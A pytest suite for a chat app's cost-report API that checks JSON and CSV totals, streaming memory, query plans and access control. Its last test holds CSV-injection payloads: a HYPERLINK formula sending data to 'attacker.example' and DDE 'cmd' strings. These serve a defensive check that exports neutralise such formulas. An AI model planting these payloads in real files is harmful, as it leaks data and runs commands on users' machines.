"""Cost reports (`GET /api/admin/costs`, `/api/me/costs`) against a ledger computed by hand.

2,000 random generations are written through the store's writer, over users, agents, models,
days (some outside the range asked for), statuses and every cost source; the expected rows are
summed here in Python integers and must match the server's to the pico-dollar, in JSON and in
the CSV read back with the csv module. Then a 100,000-generation export is streamed with its
memory measured, and the report's query plan is checked to use its index. A conversation
deleted through the API keeps its spend in its user's reports.
"""

from __future__ import annotations

import asyncio
import csv
import io
import random
from collections import defaultdict
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa

from app.billing.reports import MEASURES, ReportRange, report_query
from app.core.money import PICOS
from app.dev.simulator import Behaviour
from app.storage.database import is_sqlite, open_database
from app.storage.tables import conversations, generations
from tests.support import local_client, migrated_store, read_sse, wait_for

ADMIN = "admin-token-for-cost-reports"
AUTH = {"Authorization": f"Bearer {ADMIN}"}
START, END = date(2026, 3, 1), date(2026, 3, 10)
USERS = ["dev", "alice", "bob"]
MODELS = ["openai/gpt-4o", "anthropic/claude-3.5-sonnet", "meta-llama/llama-3.1-70b-instruct"]
SOURCES = ["usage", "generation", "none", "pending", "not_billed"]


def _picos(picos: int) -> str:
    return str((Decimal(picos) / PICOS).quantize(Decimal("0.000000000001")))


def _ledger(seed: int = 21, count: int = 2000) -> tuple[list[dict], list[dict]]:
    rng = random.Random(seed)
    convs = [
        {
            "id": f"c{i:04d}",
            "user_id": USERS[i % len(USERS)],
            "agent": rng.choice(["chat", "coach"]),
        }
        for i in range(60)
    ]
    rows = []
    for i in range(count):
        conv = rng.choice(convs)
        # The user is the row's own, as the app writes it: a deleted conversation's rows keep
        # theirs (every 97th), a `check` ping's have none (every 89th).
        user_id = None if i % 89 == 0 else conv["user_id"]
        # A day before, inside and after the range; any time of day (UTC).
        day = START + timedelta(days=rng.randint(-2, 12))
        started = datetime.combine(day, datetime.min.time(), tzinfo=UTC) + timedelta(
            seconds=rng.randint(0, 86399), microseconds=rng.randint(0, 999999)
        )
        source = rng.choice(SOURCES)
        cost = {
            "usage": rng.randint(1, 5 * 10**9),  # up to $0.005, sub-nano-dollar digits
            "generation": rng.randint(1, 5 * 10**9),
            "not_billed": 0,
        }.get(source)
        model = rng.choice(MODELS)
        rows.append(
            {
                "id": f"g{i:05d}",
                "generation_id": f"gen-{i}",
                # ~3 generations per reply: retries and fallbacks share a message
                "message_id": f"m{i // 3:05d}",
                "conversation_id": conv["id"] if i % 97 else "deleted-conversation",
                "user_id": user_id,
                "agent": "check" if user_id is None else conv["agent"],
                "attempt": 1 + i % 3,
                "requested_model": model,
                "model": None if source == "not_billed" else model,
                # As a run writes them: retries after errors, the last attempt complete or not.
                # A pending cost belongs to a generation still streaming: an ended one would be
                # looked up (and settled) by the server's recovery while the test reads.
                "status": "streaming"
                if source == "pending"
                else (
                    "error"
                    if i % 3 < 2 and rng.random() < 0.8
                    else rng.choice(["complete", "cancelled", "error"])
                ),
                "error_code": None,
                "prompt_tokens": rng.randint(0, 5000),
                "completion_tokens": rng.randint(0, 2000),
                "reasoning_tokens": rng.randint(0, 300),
                "cached_tokens": rng.randint(0, 1000),
                "cache_write_tokens": rng.randint(0, 500),
                "cost_picousd": cost,
                # What caching saved: negative after a write, unknown (None) now and then.
                "cache_saved_picousd": None
                if rng.random() < 0.2
                else rng.randint(-2_000_000_000, 9_000_000_000),
                "cost_source": source,
                "started_at": started,
                "first_token_at": None,
                "ended_at": started,
            }
        )
    return convs, rows


async def _seed(url: str, convs: list[dict], rows: list[dict]) -> None:
    async with migrated_store(url) as store:
        now = datetime.now(UTC)
        await store.writer.write(
            [
                conversations.insert().values(
                    **c, title="t", subject_conversation_id=None, created_at=now, updated_at=now
                )
                for c in convs
            ]
        )
        for start in range(0, len(rows), 500):
            await store.writer.write(
                [generations.insert().values(**r) for r in rows[start : start + 500]]
            )


def _expected(rows: list[dict], group_by: tuple[str, ...], user=None) -> list:
    groups: dict[tuple, list[dict]] = defaultdict(list)
    for r in rows:
        if not START <= r["started_at"].date() <= END:
            continue
        who = r["user_id"]
        if user is not None and who != user:
            continue
        keys = {
            "day": r["started_at"].date().isoformat(),
            "model": r["model"] or r["requested_model"],
            "agent": r["agent"],
            "user": who,
        }
        groups[tuple(keys[g] for g in group_by)].append(r)
    out = []
    for key in sorted(groups, key=lambda k: tuple((v is None, v or "") for v in k)):
        members = groups[key]
        cost = sum(r["cost_picousd"] or 0 for r in members)
        exact = sum(
            r["cost_picousd"] for r in members if r["cost_source"] in ("usage", "generation")
        )
        complete = sum(r["status"] == "complete" for r in members)
        per_reply = None
        if complete:
            per_reply = _picos(int((Decimal(cost) / complete).to_integral_value()))
        out.append(
            {
                **dict(zip(group_by, key, strict=True)),
                "generations": len(members),
                "replies": sum(r["attempt"] == 1 for r in members),
                "complete_replies": complete,
                **{
                    f"{kind}_tokens": sum(r[f"{kind}_tokens"] for r in members)
                    for kind in ("prompt", "completion", "reasoning", "cached", "cache_write")
                },
                "cost_usd": _picos(cost),
                "cache_saved_usd": _picos(sum(r["cache_saved_picousd"] or 0 for r in members)),
                "exact_cost_usd": _picos(exact),
                "cost_per_complete_reply_usd": per_reply,
                # No feedback in this ledger (test_feedback.py rates replies).
                "rated_replies": 0,
                "positive_share": None,
                "exact_generations": sum(
                    r["cost_source"] in ("usage", "generation") for r in members
                ),
                "not_billed_generations": sum(r["cost_source"] == "not_billed" for r in members),
                "unknown_generations": sum(r["cost_source"] == "none" for r in members),
                "pending_generations": sum(r["cost_source"] == "pending" for r in members),
            }
        )
    return out


def _sorted(rows: list[dict], group_by) -> list[dict]:
    # NULLs sort first on SQLite and last on PostgreSQL: compare in one order.
    return sorted(rows, key=lambda r: tuple((r[g] is None, r[g] or "") for g in group_by))


@pytest.fixture
def seeded(database):
    convs, rows = _ledger()
    asyncio.run(_seed(database.url, convs, rows))
    return convs, rows


def test_reports_match_a_hand_computed_ledger_exactly_in_json_and_csv(start_server, seeded):
    _, rows = seeded
    server = start_server(admin_token=ADMIN)
    with local_client(server.url, timeout=30) as http:
        for group_by in [
            ("day",),
            ("model",),
            ("agent", "user"),
            ("day", "model", "agent", "user"),
        ]:
            params = {
                "from": START.isoformat(),
                "to": END.isoformat(),
                "group_by": ",".join(group_by),
            }
            body = http.get("/api/admin/costs", params=params, headers=AUTH).json()
            expected = _expected(rows, group_by)
            assert _sorted(body["rows"], group_by) == _sorted(expected, group_by)
            [total] = _expected(rows, ())
            assert body["totals"] == total
            assert body["from"] == "2026-03-01" and body["group_by"] == list(group_by)

            response = http.get(
                "/api/admin/costs", params={**params, "format": "csv"}, headers=AUTH
            )
            assert response.headers["content-type"] == "text/csv; charset=utf-8"
            by = "-".join(group_by)
            assert response.headers["content-disposition"] == (
                f'attachment; filename="streamchat-costs-2026-03-01-to-2026-03-10-by-{by}.csv"'
            )
            assert response.text.endswith("\r\n")  # RFC 4180 line ends
            table = list(csv.reader(io.StringIO(response.text, newline="")))
            assert table[0] == [*group_by, *MEASURES]
            as_text = [
                [("" if row[c] is None else str(row[c])) for c in table[0]] for row in expected
            ]
            assert sorted(table[1:]) == sorted(as_text)

        # The caller's own: the dev user's, a deleted conversation's included.
        mine = http.get("/api/me/costs", params={"from": "2026-03-01", "to": "2026-03-10"}).json()
        expected = _expected(rows, ("day",), user="dev")
        assert any(r["conversation_id"] == "deleted-conversation" for r in rows if r["user_id"])
        assert mine["rows"] == expected
        csv_mine = http.get("/api/me/costs", params={"format": "csv", "to": "2026-03-10"})
        assert (
            "streamchat-my-costs-2026-02-09-to-2026-03-10-by-day.csv"
            in csv_mine.headers["content-disposition"]
        )


def test_line_items_export_every_generation_of_the_range(start_server, seeded):
    _, rows = seeded
    server = start_server(admin_token=ADMIN)
    params = {"from": "2026-03-01", "to": "2026-03-10", "group_by": "generation", "format": "csv"}
    response = httpx.get(f"{server.url}/api/admin/costs", params=params, headers=AUTH, timeout=30)
    items = list(csv.DictReader(io.StringIO(response.text, newline="")))
    wanted = sorted(
        (r for r in rows if START <= r["started_at"].date() <= END),
        key=lambda r: (r["started_at"], r["id"]),
    )
    assert [item["id"] for item in items] == [r["id"] for r in wanted]
    for item, row in zip(items, wanted, strict=True):
        assert datetime.fromisoformat(item["started_at"]) == row["started_at"]
        assert item["cost_usd"] == (
            "" if row["cost_picousd"] is None else _picos(row["cost_picousd"])
        )
        assert item["cache_saved_usd"] == (
            "" if row["cache_saved_picousd"] is None else _picos(row["cache_saved_picousd"])
        )
        assert item["user"] == (row["user_id"] or "")
        assert item["cost_source"] == row["cost_source"]


def test_a_deleted_conversations_spend_stays_its_users(start_server, fake, database):
    """Through the API: the user deletes a conversation with a costed reply and a costed title;
    their own report and the admins' by user count both, as before the delete."""
    fake.enqueue(
        Behaviour(tokens=["Kept."], cost=Decimal("0.000460")),
        Behaviour(tokens=["Kept"], cost=Decimal("0.000002")),  # its title
        Behaviour(tokens=["Gone."], cost=Decimal("0.001000")),
        Behaviour(tokens=["Gone"], cost=Decimal("0.000003")),
    )
    server = start_server(admin_token=ADMIN, auto_titles=True)
    with local_client(server.url, timeout=30) as http:
        chats = []
        for titles, message in enumerate(("keep this", "delete this"), 1):
            events = read_sse(http, "POST", "/api/chat", json={"message": message})
            assert events[-1].data["status"] == "complete"
            chats.append(events[0].data["conversation_id"])
            # The title's call comes after the reply: wait for its cost row before the next.
            wait_for(
                lambda n=titles: (
                    len(
                        database.query(
                            "SELECT id FROM generations WHERE agent = 'titler'"
                            " AND cost_source = 'usage'"
                        )
                    )
                    == n
                ),
                what="the title's cost row",
            )

        def reports() -> tuple[dict, dict]:
            mine = http.get("/api/me/costs", params={"group_by": "agent"}).json()
            by_user = http.get("/api/admin/costs", params={"group_by": "user"}, headers=AUTH).json()
            return mine, by_user

        before = reports()
        deleted = http.delete(f"/api/conversations/{chats[1]}")
        assert deleted.status_code == 204
        assert http.get(f"/api/conversations/{chats[1]}").status_code == 404
        mine, by_user = reports()

    assert (mine, by_user) == before
    assert [(r["agent"], r["generations"], r["cost_usd"]) for r in mine["rows"]] == [
        ("chat", 2, "0.001460000000"),
        ("titler", 2, "0.000005000000"),
    ]
    assert mine["totals"]["cost_usd"] == "0.001465000000"
    assert [(r["user"], r["generations"], r["cost_usd"]) for r in by_user["rows"]] == [
        ("dev", 4, "0.001465000000")
    ]
    # The ledger kept the deleted conversation's rows, each with its user.
    gone = database.query(
        "SELECT user_id FROM generations WHERE conversation_id = :id", id=chats[1]
    )
    assert [row["user_id"] for row in gone] == ["dev", "dev"]


@pytest.mark.parametrize(
    "params",
    [
        {"from": "2026-13-01"},
        {"to": "yesterday"},
        {"from": "20260301"},
        {"from": "2026-03-10", "to": "2026-03-01"},
        {"group_by": "day,week"},
        {"group_by": "day,day"},
        {"group_by": "generation"},  # line items are CSV only
        {"format": "xml"},
        {"to": "9999-12-31"},  # its day's end is past the last date Python has
        {"to": "0001-01-05"},  # the default `from`, 30 days before, is before the first
        {"from": "0001-01-01", "to": "0001-01-02"},
    ],
)
def test_bad_parameters_are_422_invalid_query(start_server, params):
    server = start_server(admin_token=ADMIN)
    for path, headers in (("/api/admin/costs", AUTH), ("/api/me/costs", {})):
        response = httpx.get(f"{server.url}{path}", params=params, headers=headers)
        assert response.status_code == 422, (path, params)
        assert response.json()["error"]["code"] == "invalid_query"


def test_everyones_costs_are_for_admins_only(start_server):
    server = start_server(admin_token=ADMIN)
    assert httpx.get(f"{server.url}/api/admin/costs").status_code == 401
    wrong = httpx.get(f"{server.url}/api/admin/costs", headers={"Authorization": "Bearer no"})
    assert wrong.status_code == 401
    # No admin configured: 403 admin_disabled, whoever asks.
    closed = start_server()
    assert httpx.get(f"{closed.url}/api/admin/costs").json()["error"]["code"] == "admin_disabled"


# `count` generations, 300 s apart from 2026-01-01, inserted by the database itself (a row per
# statement would take minutes): the same shape on both, the timestamp as each stores one;
# the columns named, the later ones (migration 4's) left to their defaults.
BULK_SQLITE = """
INSERT INTO generations (id, generation_id, message_id, conversation_id, agent, attempt,
    requested_model, model, status, error_code, prompt_tokens, completion_tokens,
    reasoning_tokens, cached_tokens, cost_picousd, cost_source, started_at, first_token_at,
    ended_at, user_id)
WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < {last})
SELECT substr('00000000000000000000000000000000' || i, -32), 'gen-' || i, 'm' || i,
       'c' || (i - i / 1000 * 1000), 'chat', 1, 'openai/gpt-4o', 'openai/gpt-4o', 'complete',
       NULL, 100, 50, 0, 0, 123456789, 'usage',
       datetime('2026-01-01', '+' || (i * 300) || ' seconds') || '.000000', NULL, NULL,
       'user' || (i - i / 50 * 50)
FROM n
"""
BULK_POSTGRES = """
INSERT INTO generations (id, generation_id, message_id, conversation_id, agent, attempt,
    requested_model, model, status, error_code, prompt_tokens, completion_tokens,
    reasoning_tokens, cached_tokens, cost_picousd, cost_source, started_at, first_token_at,
    ended_at, user_id)
SELECT lpad(to_hex(i), 32, '0'), 'gen-' || i, 'm' || i, 'c' || (i % 1000), 'chat', 1,
       'openai/gpt-4o', 'openai/gpt-4o', 'complete', NULL, 100, 50, 0, 0, 123456789, 'usage',
       timestamptz '2026-01-01 00:00:00+00' + i * interval '300 seconds', NULL, NULL,
       'user' || (i % 50)
FROM generate_series(0, {last}) AS i
"""


async def _bulk(url: str, count: int) -> None:
    async with migrated_store(url):
        pass
    database = await open_database(url, max_size=1)
    try:
        bulk = BULK_SQLITE if is_sqlite(url) else BULK_POSTGRES
        await database.execute(bulk.format(last=count - 1))
    finally:
        await database.disconnect()


def _memory_kb(pid: int, key: str) -> int:
    """A line of /proc/<pid>/status, in kB: VmHWM is the process's peak resident memory."""
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith(f"{key}:"):
                return int(line.split()[1])
    raise AssertionError(f"no {key} in /proc/{pid}/status")


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads Linux's /proc")
def test_a_100k_generation_export_streams_in_bounded_memory(start_process, database):
    count = 100_000
    asyncio.run(_bulk(database.url, count))
    # The server in a process of its own, so its memory is the export's alone (not the
    # client's), measured untraced: its peak resident memory (VmHWM) before and after.
    server = start_process(ADMIN_TOKEN=ADMIN)
    pid = server.popen.pid
    params = {"from": "2026-01-01", "to": "2026-12-31", "group_by": "generation", "format": "csv"}
    with local_client(server.url, headers=AUTH, timeout=120) as http:
        # A one-day export first: the code, the connection and the first page's buffers are
        # the server's before the peak is read, so what follows is the big export's own.
        day = http.get("/api/admin/costs", params={**params, "to": "2026-01-01"})
        assert day.status_code == 200 and day.text.count("\n") == 1 + 288, day.text[:500]
        before = _memory_kb(pid, "VmHWM")
        rows = size = 0
        with http.stream("GET", "/api/admin/costs", params=params) as response:
            assert response.status_code == 200
            for line in response.iter_lines():
                rows += 1
                size += len(line) + 2
                if rows == count // 4:
                    quarter = _memory_kb(pid, "VmHWM")
        after = _memory_kb(pid, "VmHWM")
    assert rows == count + 1  # and the header
    grown, late = (after - before) * 1024, (after - quarter) * 1024
    print(f"peak grew {grown / 1e6:.1f} MB ({late / 1e6:.1f} MB in the last three quarters)")
    # Held whole, the export would raise the server's peak by at least its own size (its text
    # alone; its rows as Python objects are several times that), and by three quarters of it
    # while the last three quarters were read. Streamed a page of 1,000 rows at a time, the
    # peak rises by a few MB while the first pages are read (measured: 5-7 MB on SQLite and
    # PostgreSQL), then stays flat (measured: 0.1 MB).
    assert size > 15_000_000, size
    assert grown < 12_000_000, f"peak grew {grown / 1e6:.1f} MB for a {size / 1e6:.1f} MB export"
    assert late < 4_000_000, f"peak grew {late / 1e6:.1f} MB over the last 75,000 rows"


async def _plan(url: str, range_: ReportRange) -> str:
    """The plan of `range_`'s report, its values inlined, after ANALYZE (as autovacuum would)."""
    db = await open_database(url, max_size=1)
    try:
        dialect = db.url.dialect
        query = report_query(range_, dialect=dialect)
        compiled = str(
            query.compile(
                dialect=sa.dialects.sqlite.dialect()
                if dialect == "sqlite"
                else sa.dialects.postgresql.dialect(),
                compile_kwargs={"literal_binds": True},
            )
        )
        if is_sqlite(url):
            await db.execute("ANALYZE")
            rows = await db.fetch_all(f"EXPLAIN QUERY PLAN {compiled}")
            return "\n".join(str(row[3]) for row in rows)
        await db.execute("VACUUM ANALYZE generations")  # index-only scans need the visibility map
        rows = await db.fetch_all(f"EXPLAIN {compiled}")
        return "\n".join(row[0] for row in rows)
    finally:
        await db.disconnect()


@pytest.mark.parametrize(
    "group_by, user_id, index",
    [
        (("day", "model"), None, "ix_generations_started_at"),
        (("day", "model", "agent", "user"), None, "ix_generations_started_at"),
        # One user's (`/api/me/costs`): their own rows, not the range's (migration 14).
        (("day",), "user7", "ix_generations_user_started"),
    ],
)
def test_a_report_over_a_range_reads_the_started_at_index(database, group_by, user_id, index):
    asyncio.run(_bulk(database.url, 20_000))
    # A week of the ~70 days the rows span: a range report reads only its part of the table.
    week = ReportRange(date(2026, 1, 10), date(2026, 1, 16), group_by, user_id)
    text = asyncio.run(_plan(database.url, week))
    assert index in text, text
    if not is_sqlite(database.url):
        # The index carries every column a report reads, its user too (migrations 11 and 14):
        # the table itself is not read at all.
        assert f"Index Only Scan using {index}" in text, text
    assert "conversations" not in text, text


@pytest.mark.parametrize("group_by", [("day",), ("day", "model"), ("day", "model", "agent")])
def test_a_years_report_hashes_its_groups_instead_of_sorting_every_row(database, group_by):
    """PostgreSQL knows how few groups a year makes (migration 12's statistics), so it hashes
    them in memory; without that it took each row for a group of its own and sorted them all,
    on disk for a big ledger (docs/operations.md, "Measured")."""
    if is_sqlite(database.url):
        pytest.skip("a PostgreSQL planner's choice: SQLite's aggregation is the same either way")
    asyncio.run(_bulk(database.url, 20_000))
    year = ReportRange(date(2026, 1, 1), date(2026, 12, 31), group_by)
    text = asyncio.run(_plan(database.url, year))
    assert "HashAggregate" in text, text
    assert "GroupAggregate" not in text, text


def test_a_reports_range_is_written_into_its_sql_not_sent_as_a_parameter():
    """A prepared statement's generic plan cannot see a parameter: after a few runs PostgreSQL
    could plan a year's report as if it were a small range (serial, twice as slow)."""
    year = ReportRange(date(2026, 1, 1), date(2026, 12, 31), ("day",), "dev")
    compiled = report_query(year, dialect="postgresql").compile(
        dialect=sa.dialects.postgresql.dialect(), compile_kwargs={"render_postcompile": True}
    )
    assert "'2026-01-01 00:00:00+00:00'" in compiled.string, compiled.string
    assert "'2027-01-01 00:00:00+00:00'" in compiled.string, compiled.string
    assert not any(isinstance(value, datetime) for value in compiled.params.values())


FORMULAS = {
    "user": '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
    "requested_model": "+cmd|' /C calc'!A0",
    "error_code": "-2+3+cmd|' /C calc'!A0",
    "generation_id": "\t=1+1",
    "message_id": "\r=1+1",
}


def test_csv_cells_from_users_and_upstream_cannot_run_as_spreadsheet_formulas(
    start_server, database
):
    # OWASP's CSV injection advice: a cell starting with = + - @, tab or CR is prefixed with a
    # single quote, so a spreadsheet shows it as text instead of evaluating it.
    _, [row] = _ledger(count=1)
    hostile_rows = []
    for user in (FORMULAS["user"], "dev"):
        hostile_rows.append(
            {
                **row,
                "id": f"g-{user == 'dev'}",
                "user_id": user,
                "generation_id": FORMULAS["generation_id"],
                "message_id": FORMULAS["message_id"],
                "model": FORMULAS["model"],
                "requested_model": FORMULAS["requested_model"],
                "error_code": FORMULAS["error_code"],
                "started_at": datetime.combine(START, datetime.min.time(), tzinfo=UTC),
            }
        )
    conv = {"id": row["conversation_id"], "user_id": "dev", "agent": "chat"}
    asyncio.run(_seed(database.url, [conv], hostile_rows))
    server = start_server(admin_token=ADMIN)
    day = {"from": START.isoformat(), "to": START.isoformat(), "format": "csv"}
    tables = []
    for path, headers, group_by in (
        ("/api/admin/costs", AUTH, "user,model"),
        ("/api/admin/costs", AUTH, "generation"),
        ("/api/me/costs", {}, "model"),
        ("/api/me/costs", {}, "generation"),
    ):
        response = httpx.get(
            f"{server.url}{path}", params={**day, "group_by": group_by}, headers=headers
        )
        assert response.status_code == 200, response.text
        tables.append(list(csv.DictReader(io.StringIO(response.text, newline=""))))
    by_user, items, mine, my_items = tables
    assert sorted(r["user"] for r in by_user) == sorted(["dev", "'" + FORMULAS["user"]])
    assert {r["model"] for r in by_user + mine} == {"'" + FORMULAS["model"]}
    for item in items + my_items:
        for name in ("model", "requested_model", "error_code", "generation_id", "message_id"):
            assert item[name] == "'" + FORMULAS[name], (name, item[name])
    for table in tables:
        for record in table:
            assert not [v for v in record.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
